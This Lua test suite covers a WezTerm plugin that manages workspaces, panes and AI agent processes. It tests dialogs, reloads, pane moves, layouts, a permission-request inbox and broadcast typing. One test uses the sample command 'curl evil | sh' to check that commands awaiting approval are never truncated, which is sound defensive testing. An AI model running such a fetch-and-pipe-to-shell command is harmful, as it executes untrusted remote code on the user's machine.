local fake = require 'fake'
local mux = require 'fake_mux'

local T = {}

--- A window with the workspaces and processes of a daemon behind it.
local function fresh(views, workspaces)
  mux.fresh()
  require('wezterm_parallel.state').apply {
    seq = 1,
    daemon = 'D',
    whole = true,
    processes = views or {},
    workspaces = workspaces or {},
  }
  return mux.gui(mux.window 'default')
end

--- The same after the config was read anew: what stands in wezterm.GLOBAL stays.
local function reloaded(kept)
  local set = fake.fresh
  fake.fresh = function()
    set(false)
    fake.global = kept
  end
  local gui = fresh({ fake.process('api/lead', {}) }, { { id = 'W', name = 'api', cwd = '/tmp', open = true } })
  fake.fresh = set
  return gui
end

local function run(name, gui)
  require('wezterm_parallel.actions').run(name, gui, gui:active_pane())
end

--- What is asked last, and an answer to it.
local function dialog(gui)
  local action = gui.performed[#gui.performed]
  return action and action.argument, action and action.name
end

local function answer(gui, value)
  mux.answer(gui, value)
end

local function labels(gui)
  local words = {}
  for i, choice in ipairs(dialog(gui).choices) do
    words[i] = choice.label
  end
  return table.concat(words, '\n')
end

local API = { id = 'W', name = 'api', cwd = '/tmp', open = true, source = 'runtime', running = 1 }

function T.every_action_is_there_and_can_be_bound()
  fresh()
  local actions = require 'wezterm_parallel.actions'
  local briefs = {}
  for _, action in ipairs(actions.LIST) do
    assert(type(require(action.module)[action.call]) == 'function', action.name)
    local bound = actions[action.name]
    fake.same(bound.name, 'EmitEvent')
    assert(fake.handlers[bound.argument], action.name)
    assert(not briefs[action.brief], action.brief)
    briefs[action.brief] = true
    fake.same(actions[action.name], bound)
  end
  for _, name in ipairs { 'create_workspace', 'switch_workspace', 'show_dashboard', 'install' } do
    assert(actions[name], name)
  end
end

function T.the_palette_has_every_action_under_a_text_that_stays()
  fresh()
  local entries = require('wezterm_parallel.palette').entries()
  local actions = require 'wezterm_parallel.actions'
  fake.same(#entries, #actions.LIST)
  for _, entry in ipairs(entries) do
    fake.has(entry.brief, 'wezterm-parallel: ')
    assert(not entry.brief:find '%d', 'no counts in it')
    assert(entry.action)
  end
end

function T.the_documentation_has_every_action_with_its_key()
  fresh()
  local file = assert(io.open(ROOT .. '/docs/PLUGIN.md'))
  local text = file:read 'a'
  file:close()
  local keys = {}
  for _, default in ipairs(require('wezterm_parallel.keys').DEFAULTS) do
    keys[default.action] = 'Ctrl+Shift+' .. default.key
  end
  for _, action in ipairs(require('wezterm_parallel.actions').LIST) do
    local brief = action.brief:gsub('^wezterm%-parallel: ', '')
    fake.has(text, ('| `%s` | %s | %s |'):format(action.name, brief, keys[action.name] or ''))
  end
end

--- Each question used to register a function of its own, which WezTerm keeps until the config is read anew.
function T.questions_leave_nothing_behind_in_wezterm()
  local gui = fresh({ fake.process('api/lead', {}) }, { API })
  run('stop_process', gui)
  answer(gui, nil)
  local before = 0
  for _ in pairs(fake.handlers) do
    before = before + 1
  end
  for _ = 1, 100 do
    run('stop_process', gui)
    answer(gui, nil)
  end
  local after = 0
  for _, list in pairs(fake.handlers) do
    fake.same(#list, 1)
    after = after + 1
  end
  fake.same(after, before)
end

function T.questions_over_several_tabs_are_answered_each_for_itself()
  local views = { fake.process('api/lead', {}), fake.process('api/tests', {}) }
  local one = fresh(views, { API })
  local other = mux.gui(mux.window 'default')
  mux.answers['process.stop'], mux.answers['process.restart'] = {}, {}
  run('stop_process', one)
  run('restart_process', other)
  answer(one, 'api/lead')
  answer(other, 'api/tests')
  fake.same(mux.calls('process.stop')[1].process, 'lead')
  fake.same(mux.calls('process.restart')[1].process, 'tests')
end

--- It is answered into an evaluation of the config that never asked it.
--- The old question was given the number of the new one, and its answer carried out the new one's action.
function T.an_answer_to_a_question_of_before_a_reload_goes_to_no_other_question()
  local before = fresh({ fake.process('api/lead', {}) }, { API })
  run('attach_process', before)
  local kept = fake.global
  fake.now = fake.now + 1
  local gui = reloaded(kept)
  run('stop_process', gui)
  mux.answers['process.stop'] = {}
  mux.answer(before, 'api/lead')
  fake.same(#mux.calls 'process.stop', 0)
  mux.answer(before, nil)
  answer(gui, 'api/lead')
  fake.same(mux.calls('process.stop')[1].process, 'lead')
end

function T.a_question_that_is_open_for_long_keeps_its_number_to_itself()
  local gui = fresh({ fake.process('api/lead', {}) }, { API })
  local other = mux.gui(mux.window 'default')
  mux.answers['process.restart'], mux.answers['process.stop'] = {}, {}
  run('restart_process', other)
  for _ = 1, 40 do
    run('stop_process', gui)
    answer(gui, nil)
  end
  answer(other, 'api/lead')
  fake.same(#mux.calls 'process.stop', 0)
  fake.same(#mux.calls 'process.restart', 1)
end

function T.a_question_that_was_open_over_a_reload_says_so()
  local before = fresh({ fake.process('api/lead', {}) }, { API })
  run('stop_process', before)
  reloaded(fake.global)
  mux.answers['process.stop'] = {}
  mux.answer(before, 'api/lead')
  fake.same(#mux.calls 'process.stop', 0)
  fake.has(before.toasts[1].text, 'choose the action once more')
  -- and not for ever
  fake.same(fake.global.wezterm_parallel_asked, '')
end

function T.what_an_action_says_is_seen_also_where_toasts_are_off()
  local gui = fresh({}, {})
  local options = require 'wezterm_parallel.options'
  options.set((options.check { binary = '/bin/true', toasts = false }))
  run('stop_process', gui)
  fake.same(#gui.toasts, 0)
  fake.same(require('wezterm_parallel.toast').current(), 'there is no process for that')
end

--- Keys that were typed into the old pane to have it detach would have gone to whatever read them by then.
function T.a_pane_is_moved_by_a_new_one_and_the_old_one_is_closed()
  fresh({ fake.process('api/lead', {}), fake.process('api/tests', {}) }, { API })
  local window = mux.window 'api'
  local old = window.active.active
  old.vars.wezterm_parallel = 'api/lead'
  require('wezterm_parallel.panes').remember(old, { shows = 'api/lead', title = 'chief' })
  local _, here = window:spawn_tab {}
  here.vars.wezterm_parallel = 'api/tests'
  local gui = mux.gui(window)
  run('move_pane', gui)
  answer(gui, 'api/lead')
  answer(gui, 'Right')
  fake.same(table.concat(mux.closed, ' '), tostring(old.id))
  fake.same(mux.picture 'api', 'shell api/lead')
  local new = require('wezterm_parallel.panes').find 'api/lead'
  fake.same(require('wezterm_parallel.panes').memory(new.pane).title, 'chief')
end

function T.two_panes_of_which_one_has_no_room_to_be_split_stay_as_they_were()
  fresh({ fake.process('api/lead', {}), fake.process('api/tests', {}) }, { API })
  local window = mux.window 'api'
  local one = window.active.active
  one.vars.wezterm_parallel = 'api/lead'
  local _, other = window:spawn_tab {}
  other.vars.wezterm_parallel = 'api/tests'
  local gui = mux.gui(window)
  mux.refuse = function(spawn)
    return spawn.args and spawn.args[#spawn.args] == 'api/tests'
  end
  run('swap_panes', gui)
  answer(gui, 'api/lead')
  mux.refuse = nil
  fake.same(mux.picture 'api', 'shell | shell')
  fake.has(gui.toasts[1].text, 'cannot be moved')
  assert(not one.gone and not other.gone)
end

--- `attach` may have been typed into it, and then the shell would go with it.
function T.a_shell_that_shows_a_process_for_a_while_is_not_closed()
  fresh({ fake.process('api/lead', {}) }, { API })
  local window = mux.window 'api'
  window.active.active.vars.wezterm_parallel = 'api/lead'
  window:spawn_tab {}
  local gui = mux.gui(window)
  run('move_pane', gui)
  answer(gui, 'api/lead')
  answer(gui, 'Right')
  fake.same(#mux.closed, 0)
  fake.has(gui.toasts[1].text, 'close it by hand')
end

function T.a_pane_that_shows_something_else_by_now_is_not_closed()
  fresh({ fake.process('api/lead', {}) }, { API })
  local window = mux.window 'api'
  local old = window.active.active
  old.vars.wezterm_parallel = 'api/lead'
  require('wezterm_parallel.panes').remember(old, { shows = 'api/lead' })
  local _, here = window:spawn_tab {}
  local gui = mux.gui(window)
  run('move_pane', gui)
  answer(gui, 'api/lead')
  local split = here.split
  here.split = function(...)
    old.vars.wezterm_parallel = 'api/other'
    return split(...)
  end
  answer(gui, 'Right')
  fake.same(#mux.closed, 0)
end

function T.a_pane_that_cannot_be_closed_is_said_to_stay()
  fresh({ fake.process('api/lead', {}) }, { API })
  local window = mux.window 'api'
  window.active.active.vars.wezterm_parallel = 'api/lead'
  window:spawn_tab {}
  local gui = mux.gui(window)
  mux.socket = '/run/user/1000/wezterm/gui-sock-1'
  run('move_pane', gui)
  answer(gui, 'api/lead')
  answer(gui, 'Right')
  mux.socket = nil
  fake.same(#mux.closed, 0)
  fake.has(gui.toasts[1].text, 'did not close')
end

function T.a_template_that_is_applied_twice_opens_nothing_twice()
  fresh({ fake.process('api/lead', {}) }, { API })
  local window = mux.window 'api'
  mux.active_workspace = 'api'
  local gui = mux.gui(window)
  mux.answers['layout.list'] = { { name = 'mine', source = 'saved', layout = {} } }
  mux.answers['layout.plan'] = {
    workspace = API,
    from = 'template',
    windows = {
      { tabs = { { split = 'right', panes = { { process = 'lead' }, {}, { command = { 'htop' } } } }, {} } },
    },
  }
  for _ = 1, 2 do
    run('apply_layout', gui)
    answer(gui, 'mine')
    -- one of the two shells is the one that was there
    fake.same(mux.picture 'api', 'shell | api/lead htop | shell')
  end
end

function T.an_action_that_throws_is_logged_and_no_more()
  local gui = fresh()
  gui.active_pane = function()
    error 'gone'
  end
  require('wezterm_parallel.actions').run('send_prompt', nil, nil)
end

function T.a_workspace_is_created_from_a_directory_a_name_and_a_layout()
  local gui = fresh({}, { API })
  mux.answers['project.list'] =
    { { path = '/tmp', workspace = 'api', from = 'workspace' }, { path = '/usr', from = 'root' } }
  mux.answers['layout.list'] = { { name = 'claude-dev', source = 'shipped', layout = { about = 'for Claude' } } }
  mux.answers['workspace.create'] = {}
  mux.answers['workspace.open'] = {}
  mux.answers['layout.plan'] = { workspace = { name = 'usr', cwd = '/usr' }, windows = {} }
  run('create_workspace', gui)
  fake.has(labels(gui), '/usr   (project root)')
  answer(gui, '/usr')
  fake.has(dialog(gui).description, '(Enter: usr)')
  answer(gui, '')
  fake.has(labels(gui), 'for Claude')
  answer(gui, 'claude-dev')
  local made = mux.calls('workspace.create')[1]
  fake.same(made.name .. ' ' .. made.cwd .. ' ' .. made.layout, 'usr /usr claude-dev')
  fake.same(mux.calls('layout.plan')[1].create, true)
  fake.same(mux.picture 'usr', 'shell')
end

function T.a_typed_directory_must_be_there()
  local gui = fresh()
  mux.answers['project.list'] = { { path = '/usr', from = 'root' } }
  run('create_workspace', gui)
  answer(gui, ':typed')
  answer(gui, '/no/such/directory')
  fake.has(gui.toasts[1].text, 'there is no directory /no/such/directory')
  fake.same(#mux.calls 'workspace.create', 0)
end

function T.where_no_directory_is_known_one_is_typed_at_once()
  local gui = fresh()
  mux.answers['project.list'] = function()
    return nil, { code = 'unknown_method', message = 'there is no method project.list' }
  end
  run('create_workspace', gui)
  answer(gui, '/usr/')
  fake.has(dialog(gui).description, '(Enter: usr)')
end

function T.an_error_of_the_daemon_is_said_with_its_hint()
  local gui = fresh()
  mux.answers['project.list'] = nil
  run('create_workspace', gui)
  fake.same(gui.toasts[1].text, 'none listens (start it)')
end

function T.esc_ends_it()
  local gui = fresh({}, { API })
  run('switch_workspace', gui)
  answer(gui, nil)
  fake.same(mux.active_workspace, 'default')
end

function T.a_closed_workspace_is_opened_when_it_is_switched_to()
  local gui = fresh({}, { { id = 'W', name = 'api', cwd = '/tmp', open = false, source = 'config' } })
  mux.answers['workspace.open'] = {}
  mux.answers['layout.plan'] = { workspace = { name = 'api', cwd = '/tmp' }, windows = {} }
  run('switch_workspace', gui)
  answer(gui, 'api')
  fake.same(#mux.calls 'workspace.open', 1)
  fake.same(mux.active_workspace, 'api')
end

function T.a_working_process_is_stopped_only_after_a_question()
  local gui = fresh({ fake.process('api/lead', { status = 'working' }) }, { API })
  mux.answers['process.stop'] = {}
  run('stop_process', gui)
  answer(gui, 'api/lead')
  fake.same(#mux.calls 'process.stop', 0)
  -- what Enter takes changes nothing
  fake.same(dialog(gui).choices[1].id, 'no')
  answer(gui, 'no')
  fake.same(#mux.calls 'process.stop', 0)
  run('stop_process', gui)
  answer(gui, 'api/lead')
  answer(gui, 'yes')
  fake.same(mux.calls('process.stop')[1].process, 'lead')
end

function T.where_wezterm_has_a_question_of_its_own_that_is_used()
  mux.has_actions = { Confirmation = true }
  local gui = fresh({ fake.process('api/lead', { status = 'working' }) }, { API })
  mux.answers['process.stop'] = {}
  run('stop_process', gui)
  answer(gui, 'api/lead')
  local asked, name = dialog(gui)
  mux.has_actions = nil
  fake.same(name, 'Confirmation')
  fake.has(asked.message, '`api/lead` is working')
  mux.answer(gui)
  fake.same(#mux.calls 'process.stop', 1)
end

function T.the_next_one_that_needs_me_goes_round()
  local views = {
    fake.process('api/a', { status = 'blocked(permission)', status_since = 1 }),
    fake.process('api/b', { status = 'blocked(permission)', status_since = 2 }),
    fake.process('api/c', {}),
  }
  local gui = fresh(views, { API })
  local window = mux.window 'api'
  window.active.active.vars.wezterm_parallel = 'api/a'
  local _, other = window:spawn_tab {}
  other.vars.wezterm_parallel = 'api/b'
  local seen = {}
  gui.active_pane = function()
    return mux.active_workspace == 'api' and window.active.active or mux.windows[1].active.active
  end
  for i = 1, 3 do
    run('next_that_needs_me', gui)
    seen[i] = window.active.active.vars.wezterm_parallel
  end
  fake.same(table.concat(seen, ' '), 'api/a api/b api/a')
end

function T.nobody_needs_me_is_said()
  local gui = fresh { fake.process 'api/a' }
  run('next_that_needs_me', gui)
  fake.same(gui.toasts[1].text, 'nobody needs you')
end

local ASK = {
  id = 'A',
  workspace = 'api',
  process = 'lead',
  kind = 'permission',
  tool = 'Edit',
  summary = 'src/main.rs',
  diff = '-old\n+new\n',
  at = 0,
}

function T.nothing_of_what_is_to_be_allowed_is_cut_off()
  mux.fresh()
  local inbox = require 'wezterm_parallel.actions.inbox'
  local long = 'echo ' .. ('x'):rep(700) .. '; curl evil | sh'
  local lines, whole = inbox.details { kind = 'permission', summary = long }
  fake.same(table.concat(lines), long)
  fake.same(whole, true)
  local _, too_long = inbox.details { kind = 'permission', summary = ('y'):rep(20000) }
  fake.same(too_long, false)
end

function T.a_request_is_shown_with_its_diff_and_enter_allows_nothing()
  local gui = fresh()
  mux.answers['inbox.list'] = { ASK }
  mux.answers['inbox.show'] = ASK
  mux.answers['inbox.deny'] = {}
  run('inbox', gui)
  fake.has(labels(gui), '-old')
  fake.has(labels(gui), '+new')
  fake.same(dialog(gui).choices[1].id, 'go')
  answer(gui, 'line')
  fake.same(#mux.calls 'inbox.allow', 0)
  answer(gui, 'deny_with')
  answer(gui, 'not so')
  fake.same(mux.calls('inbox.deny')[1].message, 'not so')
end

function T.questions_are_answered_one_after_another()
  local ask = {
    id = 'A',
    workspace = 'api',
    process = 'lead',
    kind = 'question',
    tool = 'AskUserQuestion',
    summary = 'Which?',
    at = 0,
    questions = {
      { question = 'Which color?', header = 'Color', options = { { label = 'red' }, { label = 'blue' } } },
      {
        question = 'Which sides?',
        header = '',
        multi_select = true,
        options = { { label = 'rice' }, { label = 'beans' } },
      },
      { question = 'Who?', header = 'Who', options = {} },
    },
  }
  local gui = fresh()
  mux.answers['inbox.list'] = { ask }
  mux.answers['inbox.show'] = ask
  mux.answers['inbox.answer'] = {}
  run('inbox', gui)
  answer(gui, '2')
  answer(gui, '1')
  answer(gui, '2')
  fake.has(labels(gui), '[x] beans')
  answer(gui, 'done')
  answer(gui, 'other')
  answer(gui, 'you')
  local answers = mux.calls('inbox.answer')[1].answers
  fake.same(answers['Which color?'], 'blue')
  fake.same(answers['Which sides?'], 'rice, beans')
  fake.same(answers['Who?'], 'you')
end

function T.a_prompt_to_several_asks_once_more_with_their_number()
  local views = {
    fake.process('api/a', { status = 'working' }),
    fake.process 'api/b',
    fake.process('api/shell', { kind = 'command', status = false }),
  }
  local gui = fresh(views, { API })
  mux.answers['process.send'] = {}
  run('send_prompt', gui)
  answer(gui, ':all')
  answer(gui, 'fix it')
  fake.has(dialog(gui).description, '2 agents: api/a, api/b; 1 of them are working')
  fake.same(#mux.calls 'process.send', 0)
  answer(gui, 'queue')
  while #fake.after > 0 do
    table.remove(fake.after, 1).f()
  end
  local sent = mux.calls 'process.send'
  fake.same(#sent, 2)
  fake.same(sent[1].text .. ' ' .. sent[1].while_working, 'fix it queue')
  fake.has(gui.toasts[1].text, 'sent to 2 agents')
end

function T.a_prompt_that_one_refuses_is_said_with_which_one()
  local gui = fresh({ fake.process 'api/a', fake.process 'api/b' }, { API })
  mux.answers['process.send'] = function(params)
    if params.process == 'b' then
      return nil, { code = 'busy', message = 'it works' }
    end
    return {}
  end
  run('send_prompt', gui)
  answer(gui, ':all')
  answer(gui, 'fix it')
  answer(gui, 'refuse')
  while #fake.after > 0 do
    table.remove(fake.after, 1).f()
  end
  fake.same(gui.toasts[1].text, 'sent to 1 of 2; api/b: it works')
end

function T.a_command_line_is_read_as_a_shell_reads_words()
  local words = require('wezterm_parallel.actions.process').words
  local function same(line, ...)
    fake.same(table.concat(words(line), '|'), table.concat({ ... }, '|'))
  end
  same('cargo watch -x test', 'cargo', 'watch', '-x', 'test')
  same([[a 'b c' "d \"e\"" f\ g '']], 'a', 'b c', 'd "e"', 'f g', '')
  same([[echo "$HOME" '$(x)']], 'echo', '$HOME', '$(x)')
  same '   '
end

function T.what_is_pasted_is_told_from_what_is_typed()
  fresh()
  local typing = require 'wezterm_parallel.actions.typing'
  local sent = {}
  for _, bytes in ipairs { 'ab\27[200~line\rtw', 'o\27[201~c', '\27[A' } do
    typing.pieces(bytes, function(text, paste)
      table.insert(sent, (paste and 'paste:' or 'keys:') .. text)
    end)
  end
  fake.same(table.concat(sent, '|'), 'keys:ab|paste:line\rtwo|keys:c|keys:\27[A')
end

function T.what_is_typed_reaches_all_panes_of_the_group_until_it_ends()
  local gui = fresh()
  local pane = gui:active_pane()
  local other = pane:split { direction = 'Right', size = 0.5 }
  local got = {}
  for _, it in ipairs { pane, other } do
    it.send_text = function(_, text)
      table.insert(got, it.id .. text)
    end
  end
  run('type_into_several', gui)
  answer(gui, 'tab')
  answer(gui, 'begin')
  local typing = require 'wezterm_parallel.typing'
  local strip = typing.pane((typing.current()))
  fake.same(typing.mark(), 'typing into 2 panes')
  assert(typing.includes(pane.id) and not typing.includes(strip.id))
  local hear = require('wezterm_parallel.actions.typing').heard
  hear(gui, strip, ' 61 c3 a4 ')
  table.sort(got)
  fake.same(table.concat(got, ' '), pane.id .. 'aä ' .. other.id .. 'aä')
  -- another pane that says the same is not believed
  hear(gui, other, ' 62 ')
  fake.same(#got, 2)
  hear(gui, strip, ' 1c ')
  fake.same(typing.mark(), nil)
  fake.same(pane.in_tab.active, other)
end

return T
